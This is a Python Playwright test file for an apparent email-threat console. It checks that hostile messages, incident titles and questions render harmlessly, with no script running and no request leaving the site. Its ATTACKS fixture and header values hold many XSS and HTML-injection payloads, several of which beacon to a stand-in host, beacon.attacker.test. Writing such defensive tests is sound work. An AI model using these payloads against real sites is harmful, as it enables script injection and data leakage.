"""Hostile mail shown in the console, in a real browser: no script runs, nothing is asked for, no page is left."""

from __future__ import annotations

import pytest
from playwright.sync_api import Browser, Request, Route
from tests.integration.web.conftest import Desk

from tocsin.app import ask, incidents, operations, submission
from tocsin.identify.examples import message
from tocsin.model.operation import FeatureKind, TieKind

pytestmark = pytest.mark.real
BEACON = "https://beacon.attacker.test"
ATTACKS = {
    "script": f"<script>window.ran=1;fetch('{BEACON}/s')</script>",
    "script-src": f"<script src='{BEACON}/x.js'></script>",
    "image-error": "<img src=x onerror='window.ran=1'>",
    "image": f"<img src='{BEACON}/pixel.gif'><picture><source srcset='{BEACON}/p.webp'></picture>",
    "svg": "<svg onload='window.ran=1'><animate onbegin='window.ran=1' attributeName=x dur=1s></svg>",
    "frame": f"<iframe src='{BEACON}/f'></iframe><iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "object": f"<object data='{BEACON}/o'></object><embed src='{BEACON}/e'>",
    "style": f"<style>@import '{BEACON}/c.css'; body {{ background: url({BEACON}/b) }}</style>",
    "inline-style": f"<p style=\"background:url('{BEACON}/i');position:fixed;inset:0\">over all</p>",
    "link": f"<a href='javascript:window.ran=1'>press</a><a href='{BEACON}/l' ping='{BEACON}/ping'>here</a>",
    "form": f"<form action='{BEACON}/form'><button formaction='javascript:window.ran=1'>go</button></form>",
    "meta": f"<meta http-equiv=refresh content='0;url={BEACON}/m'><base href='{BEACON}/'>",
    "broken-tag": "</p></div></main></body><script>window.ran=1</script><!--",
    "closing": "</textarea></title></style></xmp></noscript><img src=x onerror=window.ran=1>",
    "template": "{{ 7*7 }}{% raw %}{{ config }}<%= 7*7 %>${7*7}#{7*7}",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=ran=1&gt;'>",
    "entities": "&lt;img src=x onerror=window.ran=1&gt; &#60;script&#62;window.ran=1&#60;/script&#62;",
    "clobber": "<form id=content><input name=attributes></form><a id=location href='x'></a><img name=body>",
}
SUBJECT = '<script>window.ran=1</script>"><img src=x onerror=window.ran=1>'
SENDER = '"<img src=x onerror=window.ran=1>" <a"onmouseover=window.ran=1@attacker.test>'
FILE = '"><img src=x onerror=window.ran=1>.html'


def _hostile(name: str, attack: str) -> bytes:
    return message(
        sender=SENDER,
        subject=SUBJECT,
        text=f"{name} {attack}",
        page=f"<html><body>Dear colleague {name} {attack}</body></html>",
        attachments=[(FILE, "text/html", attack.encode())],
        headers=[("X-Evil", attack), ("Received", f"from x (<b onclick=window.ran=1>) by {BEACON[8:]}")],
    ).raw


@pytest.fixture(scope="module")
def shown(desk: Desk) -> dict[str, str]:
    """The corpus in the store: ids by name. Reported, so that even what is harmless can be opened."""
    raws = [_hostile(name, attack) for name, attack in ATTACKS.items()]
    done = submission.submit(desk.console.terminal("harbour"), desk.console.node.judge, raws, reported=True)
    ids = [one.message for one in done]
    assert all(ids)
    return dict(zip(ATTACKS, map(str, ids), strict=True))


@pytest.mark.parametrize("scripts", [True, False])
def test_nothing_runs_and_nothing_leaves(desk: Desk, chromium: Browser, shown: dict[str, str], scripts: bool) -> None:
    window = desk.window(chromium, scripts=scripts)
    page = window.new_page()
    elsewhere: list[str] = []
    dialogs: list[str] = []

    def look(route: Route, request: Request) -> None:
        if not request.url.startswith(desk.console.origin):
            elsewhere.append(request.url)
        route.continue_()

    page.route("**/*", look)
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    for name, message_id in shown.items():
        page.goto(f"{desk.console.origin}/messages/{message_id}")
        text = page.locator("main").inner_text()
        assert name in text, name
        assert page.url.endswith(message_id), name
        if scripts:
            page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
            page.mouse.move(300, 300)
            assert page.evaluate("window.ran") is None, name
        assert page.locator("main :is(script, iframe, object, embed, img, style, meta, base, math)").count() == 0, name
        assert page.locator("main :is(a[href^='http'], a[href^='javascript'], [style], [onclick])").count() == 0, name
        assert page.locator("main form:not([action^='/'])").count() == 0, name
    for place in ("/queue?state=waiting", "/queue", "/figures", "/log", "/ask"):
        page.goto(desk.console.origin + place)
        if scripts:
            assert page.evaluate("window.ran") is None, place
    assert not elsewhere
    assert not dialogs
    window.close()


def test_the_policy_alone_would_stop_a_script(desk: Desk, chromium: Browser) -> None:
    """If harmless text ever were not: what stands in a page itself does not run, and nothing is asked of others."""
    window = desk.window(chromium)
    page = window.new_page()
    page.goto(f"{desk.console.origin}/ask")
    refused: list[str] = []
    page.on("console", lambda said: refused.append(said.text) if "Content Security Policy" in said.text else None)
    page.evaluate(
        """() => { const s = document.createElement("div"); document.body.append(s);
        const made = trustedTypes.createPolicy("tocsin", {createHTML: one => one});
        s.innerHTML = made.createHTML("<img src='https://beacon.attacker.test/a' onerror='window.ran=1'>"); }"""
    )
    page.wait_for_timeout(300)
    assert page.evaluate("window.ran") is None
    assert refused
    window.close()


def test_hostile_titles_and_questions_are_shown_harmless(desk: Desk, chromium: Browser) -> None:
    """Where the desk reads what others wrote: lists and pages of incidents and operations, and a question."""
    terminal = desk.console.terminal("harbour")
    places = ["/incidents", "/operations"]
    for attack in ATTACKS.values():
        opened, twin = (incidents.open_incident(terminal, attack) for _ in range(2))
        for one in (opened, twin):
            operations.tell_fact(terminal, one, FeatureKind.REGISTRANT, attack, attack)
        operations.tie(terminal, opened, twin, TieKind.CONFIRMED, attack)
        places += (f"/incidents/{opened}", f"/operations/{opened}")
        places.append(f"/questions/{ask.ask_text(terminal, desk.console.node.judge, attack).question}")
    window = desk.window(chromium)
    page = window.new_page()
    elsewhere: list[str] = []
    page.on("request", lambda one: None if one.url.startswith(desk.console.origin) else elsewhere.append(one.url))
    for place in places:
        answer = page.goto(desk.console.origin + place)
        assert answer is not None
        assert answer.status == 200, place
        assert page.evaluate("window.ran") is None, place
        assert page.locator("main :is(script, iframe, object, embed, img, style, meta, base, math)").count() == 0
    assert not elsewhere
    window.close()


def test_a_hostile_question_is_shown_harmless(desk: Desk, chromium: Browser) -> None:
    window = desk.window(chromium, secret=desk.analyst)
    page = window.new_page()
    page.goto(f"{desk.console.origin}/ask")
    page.fill("#text", "".join(ATTACKS.values()))
    page.locator("form[action='/ask'] button").click()
    assert page.evaluate("window.ran") is None
    assert page.locator("main :is(script, iframe, img)").count() == 0
    assert "window.ran=1" in page.locator("main").inner_text()
    window.close()
